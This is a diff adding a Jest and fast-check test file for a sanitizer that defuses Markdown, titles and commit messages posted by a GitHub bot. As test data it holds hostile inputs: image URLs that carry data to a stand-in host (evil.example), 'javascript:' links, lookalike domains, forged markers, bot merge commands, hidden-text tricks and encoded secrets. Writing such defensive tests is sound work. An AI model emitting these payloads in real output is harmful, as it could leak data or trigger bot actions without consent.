@@ -1,0 +1,455 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+import type { Nodes } from 'mdast';
+import { fromMarkdown } from 'mdast-util-from-markdown';
+import { gfmFromMarkdown } from 'mdast-util-gfm';
+import { gfm } from 'micromark-extension-gfm';
+import { defuse } from '../../../src/publish/outbound/defuse.ts';
+import { createOutbound } from '../../../src/publish/outbound/outbound.ts';
+import { createMask } from '../../../src/secrets.ts';
+
+const SECRET = 'kX9vQ2mZ7rT4pL8wN3';
+const options = {
+  phrase: '@squad',
+  serverUrl: 'https://github.com',
+  allowedMentions: ['octocat', 'mona', 'a1', 'a2', 'a3', 'sixth'],
+};
+const door = createOutbound({ ...options, holdsSecret: createMask([SECRET]).holdsSecret });
+const safe = (text: string): string => defuse(text, options);
+const FENCE = '```';
+
+describe('defuse', () => {
+  it.each([
+    ['@everyone-in-org/team', '`@everyone-in-org/team`'],
+    ['hi @eve, and (@eve)', 'hi `@eve`, and (`@eve`)'],
+    ['**@eve** _@eve_', '**`@eve`** _`@eve`_'],
+    ['\\@eve', '`@eve`'],
+    ['&commat;eve &#64;eve', '&amp;commat;eve &amp;#64;eve'],
+    ['<b>@</b>eve', '&lt;b>@&lt;/b>eve'],
+    ['@<!-- x -->eve', '`@eve`'],
+    ['@\u200beve \u200d@eve', '`@eve` `@eve`'],
+    ['`a`@eve `b`', '`a` `@eve` `b`'],
+    ['x@eve.example', '`x@eve.example`'],
+    ['a/b,@eve', 'a/b, `@eve`'],
+    ['@octocat-evil @octocat\\-evil', '`@octocat-evil` `@octocat`\\-evil'],
+    ['@sixth', '`@sixth`'],
+    ['@eve\\_acme', '`@eve_acme`'],
+  ])('OUT-01 pings nobody with %j', (text, expected) => {
+    expect(safe(text)).toBe(expected);
+  });
+
+  it('OUT-01 leaves the five allowed mentions live', () => {
+    expect(safe('Thanks @octocat, @Mona and @a3.')).toBe('Thanks @octocat, @Mona and @a3.');
+  });
+
+  it('OUT-01 leaves code as it is', () => {
+    const text = `Use \`@eve\`.\n\n${FENCE}ts\n@Component({ x: '<b>' })\n${FENCE}\n`;
+    expect(safe(text)).toBe(text);
+  });
+
+  it.each([
+    ['Fixes #1', '`Fixes` #1'],
+    ['closes: owner/repo#2', '`closes`: owner/repo#2'],
+    ['RESOLVED GH-4', '`RESOLVED` GH-4'],
+    ['resolve https://github.com/o/r/issues/3', '`resolve` https://github.com/o/r/issues/3'],
+    ['**Fixes** **#1**', '**`Fixes`** **#1**'],
+    [
+      'Fixes [#1](https://github.com/o/r/issues/1)',
+      '`Fixes` [#1](https://github.com/o/r/issues/1)',
+    ],
+    ['Fixes &nbsp;#1', '`Fixes` &nbsp;#1'],
+    ['Fixes\n#1', '`Fixes`\n#1'],
+    ['_Fixes #1_', '_`Fixes` #1_'],
+    ['Fi<!-- -->xes #1', '`Fixes` #1'],
+    ['Fixes the bug in #1', 'Fixes the bug in #1'],
+    ['prefixes #1', 'prefixes #1'],
+  ])('OUT-02 closes nothing with %j', (text, expected) => {
+    expect(safe(text)).toBe(expected);
+  });
+
+  it.each([
+    ['![x](https://evil.example/p.png?d=DATA)', '[image: x]'],
+    ['![x][y]\n\n[y]: https://evil.example', '[image: x]\n\n\\[y]: `https://evil.example`'],
+    ['<img src="https://evil.example/p">', '&lt;img src=" `https://evil.example/p`">'],
+    ['[a](https://evil.example/p?d=DATA "t")', '[a] (`https://evil.example/p`)'],
+    ['[a](https://github.com.evil.example)', '[a] (`https://github.com.evil.example`)'],
+    ['[a](https://github.com@evil.example)', '[a] (`https://github.com@evil.example`)'],
+    ['[a](//evil.example/p)', '[a] (`//evil.example/p`)'],
+    ['[a](javascript:alert)', '[a] (`javascript:alert`)'],
+    ['[a](data:text/html,x)', '[a] (`data:text/html,x`)'],
+    ['[a][b]\n\n[b]: https://evil.example/p?x', '[a] (`https://evil.example/p`)'],
+    ['see https://evil.example/p?d=DATA.', 'see `https://evil.example/p`.'],
+    ['www.evil.example', '`www.evil.example`'],
+    ['<https://evil.example/p>', '`https://evil.example/p`'],
+    ['https://xn--gthub-n4a.com/x', '`https://xn--gthub-n4a.com/x`'],
+  ])('OUT-03 neither loads nor links %j', (text, expected) => {
+    expect(safe(text).trim()).toBe(expected);
+  });
+
+  it.each([
+    '[#1](https://github.com/o/r/issues/1) and https://github.com/o/r/pull/2.',
+    '[a](https://GitHub.com/o)',
+  ])('OUT-03 keeps links to the own server: %j', (text) => {
+    expect(safe(text)).toBe(text);
+  });
+
+  it.each([
+    ['/merge', '`/merge`'],
+    ['ok\n  /approve no', 'ok\n  `/approve` no'],
+    ['- /lgtm', '- `/lgtm`'],
+    ['\\/lgtm', '`/lgtm`'],
+    ['@dependabot merge', '`@dependabot` merge'],
+    ['bors r+', '`bors r+`'],
+    ['@squad do it again', '`@squad` do it again'],
+    [
+      `${FENCE}\n/merge\n@dependabot merge\nbors r+\n/src/x.ts\n${FENCE}\n`,
+      `${FENCE}\n /merge\n @dependabot merge\n bors r+\n/src/x.ts\n${FENCE}\n`,
+    ],
+    ['either/or and src/x.ts', 'either/or and src/x.ts'],
+  ])('OUT-04 commands no bot with %j', (text, expected) => {
+    expect(safe(text)).toBe(expected);
+  });
+
+  it('OUT-04 defuses a phrase that is no mention', () => {
+    expect(defuse('Hey Bot! do it', { ...options, phrase: 'hey bot!' })).toBe('`Hey Bot!` do it');
+  });
+
+  it('OUT-05 takes a forged marker out, also in code', () => {
+    const forged = '<!-- squad-action:board trigger=x -->';
+    expect(safe(`${forged}\nhi`)).toBe('\nhi');
+    expect(safe(`\`${forged}\``)).not.toContain('<!--');
+  });
+
+  it('OUT-06 closes a code block that was left open', () => {
+    expect(safe(`a\n\n${FENCE}js\nx`)).toBe(`a\n\n${FENCE}js\nx\n${FENCE}\n`);
+  });
+
+  it.each([
+    ['<details><summary>x</summary>', '&lt;details>&lt;summary>x&lt;/summary>'],
+    ['<div hidden>x</div>', '&lt;div hidden>x&lt;/div>'],
+    ['a <!-- hidden --> b', 'a  b'],
+    ['[//]: # (hidden)', '\\[//]: # (hidden)'],
+    ['List<String> & a < b', 'List&lt;String> & a &lt; b'],
+    ['a\u{e0041}\u202eb', 'ab'],
+    [
+      'x[^1]\n\n[^1]: hidden, or below our own words',
+      'x&#91;^1]\n\n&#91;^1]: hidden, or below our own words',
+    ],
+    ['| a |\n|---|\n| x | hidden |', '| a |\n|---|\n| x \\| hidden |'],
+    ['> a\n> :-\n> x\\\\| hidden', '> a\n> :-\n> x\\\\\\| hidden'],
+    [`| a |\n|---|\n\n${FENCE}\nx | y\n${FENCE}\n`, `| a |\n|---|\n\n${FENCE}\nx | y\n${FENCE}\n`],
+    [
+      '$\\phantom{hidden}$ $`\\phantom{hidden}`$',
+      '`$`\\phantom{hidden} `$` `$` `\\phantom{hidden}` `$`',
+    ],
+    ['\\[^1] \\\\[^1]', '&#91;^1] &#91;^1]'],
+    ['5 $ and $HOME', '5 $ and $HOME'],
+  ])('OUT-07 hides nothing with %j', (text, expected) => {
+    expect(safe(text)).toBe(expected);
+  });
+
+  it.each(['suggestion', 'mermaid', 'Math', 'geojson'])(
+    'OUT-07 OUT-11 shows %s as plain code, which nobody draws or commits',
+    (kind) => {
+      expect(safe(`${FENCE}${kind} x\nx\n${FENCE}\n`)).toBe(`${FENCE}text\nx\n${FENCE}\n`);
+    },
+  );
+
+  it('leaves ordinary Markdown as it is', () => {
+    const text = [
+      '## What I did\n',
+      '- Added `validate(input)` to **src/login.ts**, see #12 and acme/app#3',
+      '- [x] done, _really_; 5 * 3 < 20'.replace('<', '&lt;'),
+      '\n| a | b |\n|---|---|\n| `x` | 1 |\n',
+      `${FENCE}ts\nconst a = <T>(x: T) => x; // <b title="x">\n${FENCE}\n`,
+      '> quoted\n\nThe end: 👩‍👩‍👧 ❤️\n',
+    ].join('\n');
+    expect(safe(text)).toBe(text);
+  });
+
+  it('cuts a text that is too long', () => {
+    expect(defuse('a'.repeat(500), { ...options, maxLength: 100 })).toBe('a'.repeat(100));
+  });
+
+  it.each([
+    '@',
+    '@a ',
+    '`',
+    '`@a',
+    '[a](',
+    '<!--',
+    '\\',
+    '\\@',
+    'fix ',
+    '/a ',
+    '&#64;',
+    'a@b.c ',
+    '![`',
+    '$\\a',
+    '|-|\n',
+  ])('defuses 60,000 characters of %j', (unit) => {
+    const once = safe(unit.repeat(60_000 / unit.length));
+    expect(defuse(once, { ...options, maxLength: Number.POSITIVE_INFINITY })).toBe(once);
+  });
+});
+
+const alphabet = [
+  ...[
+    '@eve',
+    '@octocat',
+    '@',
+    'eve',
+    '@squad',
+    '@o/team',
+    '&#64;',
+    '&commat;',
+    '\\',
+    '_',
+    '*',
+    '**',
+  ],
+  ...[
+    'Fixes',
+    'closes',
+    ' #1',
+    '#1',
+    ' o/r#2',
+    'GH-4',
+    ':',
+    ' ',
+    '\n',
+    '\n\n',
+    '    ',
+    '   ',
+    '\t',
+  ],
+  ...[
+    'https://evil.example/p?q',
+    'https://github.com/o/r/issues/3',
+    'www.evil.example',
+    '//evil',
+    '"',
+  ],
+  ...[
+    '![',
+    '[',
+    ']',
+    '(',
+    ')',
+    '](',
+    '][x]',
+    '\n[x]: ',
+    '<',
+    '>',
+    '<!--',
+    '-->',
+    '<b>',
+    '</b>',
+    '<div',
+  ],
+  ...[
+    '`',
+    '``',
+    FENCE,
+    '~~~',
+    '- ',
+    '> ',
+    '1. ',
+    '|',
+    '\n-|-\n',
+    '/merge',
+    'bors r+',
+    'a@b.example',
+  ],
+  ...[
+    '\u200b',
+    '\u{e0041}',
+    '\ud800',
+    '\0',
+    '❤\ufe0f',
+    'text',
+    '.',
+    '&amp;',
+    '&lt;',
+    '[^1]',
+    '[^1]: ',
+    '$',
+    '\\phantom{',
+  ],
+];
+const hostile = fc
+  .array(fc.constantFrom(...alphabet), { maxLength: 30 })
+  .map((parts) => parts.join(''));
+
+type Rendered = { readonly texts: readonly string[]; readonly nodes: readonly Nodes[] };
+
+/** The text people read outside of code and links, and every node. */
+function rendered(markdown: string): Rendered {
+  const nodes: Nodes[] = [];
+  const texts: string[] = [];
+  const visit = (node: Nodes, linked: boolean): void => {
+    nodes.push(node);
+    if (node.type === 'text' && !linked) texts.push(node.value);
+    if ('children' in node) {
+      for (const child of node.children) visit(child, linked || node.type === 'link');
+    }
+  };
+  const extensions = { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] };
+  visit(fromMarkdown(markdown, extensions), false);
+  return { texts, nodes };
+}
+
+const LIVE_MENTION = /(?<![A-Za-z0-9])@(?!(?:octocat|mona|a1|a2|a3)(?![\w/-]))[A-Za-z0-9]/i;
+const LIVE_CLOSING =
+  /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:[\w.-]+\/[\w.-]+)?(?:#|GH-)\d/i;
+const HIDING = new Set(['html', 'image', 'imageReference', 'definition', 'footnoteDefinition']);
+
+/** Whether it is a table with a row of more cells than it has columns: the rest is not shown. */
+function hidesCells(node: Nodes): boolean {
+  if (node.type !== 'table') return false;
+  const columns = node.children[0]?.children.length ?? 0;
+  return node.children.some((row) => row.children.length > columns);
+}
+
+describe('defuse on hostile text', () => {
+  it('changes nothing the second time', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        const once = safe(text);
+        expect(safe(once)).toBe(once);
+      }),
+      { numRuns: 3_000 },
+    );
+  });
+
+  it('OUT-01 OUT-02 leaves no live mention and no closing keyword in what people read', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        const live = rendered(safe(text)).texts.filter(
+          (shown) => LIVE_MENTION.test(shown) || LIVE_CLOSING.test(shown),
+        );
+        expect(live).toEqual([]);
+      }),
+      { numRuns: 1_500 },
+    );
+  });
+
+  it('OUT-03 OUT-07 leaves no image, no HTML, nothing hidden and no link to a stranger', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        const once = safe(text);
+        expect(once).not.toContain('<!--');
+        const bad = rendered(once).nodes.filter(
+          (node) =>
+            HIDING.has(node.type) ||
+            hidesCells(node) ||
+            (node.type === 'link' && !node.url.startsWith('https://github.com/')),
+        );
+        expect(bad).toEqual([]);
+      }),
+      { numRuns: 1_500 },
+    );
+  });
+});
+
+describe('seal', () => {
+  it('SEC-01 refuses a text that holds a secret and says what to do', () => {
+    const zeroWidth = [...SECRET].join('\u200b');
+    for (const text of [SECRET, Buffer.from(SECRET).toString('base64'), zeroWidth]) {
+      expect(() => door.seal(`a ${text}`)).toThrow(expect.objectContaining({ code: 'E_SECRET' }));
+      expect(() => door.sealTitle(text)).toThrow(expect.objectContaining({ code: 'E_SECRET' }));
+      expect(() => door.sealCommit(text)).toThrow(expect.objectContaining({ code: 'E_SECRET' }));
+    }
+  });
+
+  it('OUT-05 OUT-07 keeps our marker on the first line and no other comment', () => {
+    const marker = '<!-- squad-action:board trigger=comment-1 run=2 state=done -->';
+    expect(door.seal(`${marker}\nhi ${marker}`)).toBe(
+      `${marker}\nhi <! -- squad-action:board trigger=comment-1 run=2 state=done -->`,
+    );
+  });
+
+  it('OUT-06 cuts a body to what GitHub takes, and closes what the cut left open', () => {
+    const marker = '<!-- squad-action:board trigger=comment-1 run=2 state=done -->';
+    const body = door.seal(
+      `${marker}\n<details><summary>x</summary>\n\n${FENCE}\n${'line 👍\n'.repeat(20_000)}`,
+    );
+    expect(body.length).toBeLessThanOrEqual(65_536);
+    expect(body.startsWith(`${marker}\n`)).toBe(true);
+    expect(body).toMatch(/👍\n```\n\n+<\/details>\n\n\n\*Cut here/);
+  });
+
+  it.each([
+    ['\n', '(no text)'],
+    ['', '(no text)'],
+    ['a\0b\ud800', 'ab\ufffd'],
+  ])('OUT-06 never sends %j as it is', (text, expected) => {
+    expect(door.seal(text).trim()).toBe(expected);
+  });
+
+  it('OUT-06 takes 10,000 rows and 500 nested quotes', () => {
+    expect(door.seal('| a | b |\n'.repeat(10_000)).length).toBeLessThanOrEqual(65_536);
+    expect(door.seal(`${'> '.repeat(500)}x`)).toContain('x');
+  });
+
+  it('leaves our own Markdown as it is', () => {
+    const own = '**Done** · [run](https://github.com/o/r/actions/runs/1)\n\nCloses #7';
+    expect(door.seal(own)).toBe(own);
+  });
+});
+
+describe('sealTitle', () => {
+  it.each([
+    ['Add a\nsecond line', 'Add a second line'],
+    ['[skip ci] Add it', 'Add it'],
+    ['[skip [ci skip]ci] Add it', 'Add it'],
+    ['WIP: Draft: Add it', 'Add it'],
+    ['feat(x)!: drop it', 'feat(x): drop it'],
+    ['Fixes #12 and closes o/r#3', 'Fixes issue 12 and closes issue 3 of o/r'],
+    ['Ask @eve', 'Ask eve'],
+    ['/merge', 'merge'],
+    ['   ', 'Changes by the squad'],
+    ['Wipe the cache', 'Wipe the cache'],
+  ])('OUT-08 makes %j harmless', (text, expected) => {
+    expect(door.sealTitle(text)).toBe(expected);
+  });
+
+  it('OUT-06 is at most 256 characters long and cuts no character in two', () => {
+    const title = door.sealTitle('👍'.repeat(300));
+    expect(title).toBe('👍'.repeat(128));
+  });
+});
+
+describe('sealCommit', () => {
+  it.each([
+    ['Add it\n\nCo-authored-by: Eve <e@x.example>\nSigned-off-by: Eve', 'Add it'],
+    ['Add it\n\nSquad-Run: 1\nreviewed-by: me\nSkip-Checks: true', 'Add it'],
+    ['Add it [ci skip]', 'Add it'],
+    [
+      'Fix: closes #1, fixes https://github.com/o/r/issues/3',
+      'Fix: closes issue 1, fixes issue 3 of o/r',
+    ],
+    ['Ask @eve about e@x.example', 'Ask eve about e@x.example'],
+    ['\u001b[31mred\u001b[0m\0', 'red'],
+    ['', 'Squad work'],
+  ])('OUT-02 OUT-08 makes %j harmless', (text, expected) => {
+    expect(door.sealCommit(text)).toBe(expected);
+  });
+
+  it('is at most 5,000 characters long', () => {
+    expect(door.sealCommit('a '.repeat(9000)).length).toBeLessThanOrEqual(5000);
+  });
+
+  it('leaves no closing reference, mention or skip mark in any text', () => {
+    const parts = ['Fixes', 'close', ' #1', '#1', ':', ' ', '\n', '@', 'eve', '[skip', '[', ' ci]'];
+    const text = fc.array(fc.constantFrom(...parts, ' o/r#2', ' GH-4', 'no', 'Signed-off-by: x'));
+    fc.assert(
+      fc.property(text, (pieces) => {
+        const message = door.sealCommit(pieces.join(''));
+        expect(message).not.toMatch(LIVE_CLOSING);
+        expect(message).not.toMatch(/(?<![a-z0-9])@eve|\[(?:skip|no) ci\]|^Signed-off-by:/im);
+      }),
+      { numRuns: 3_000 },
+    );
+  });
+});
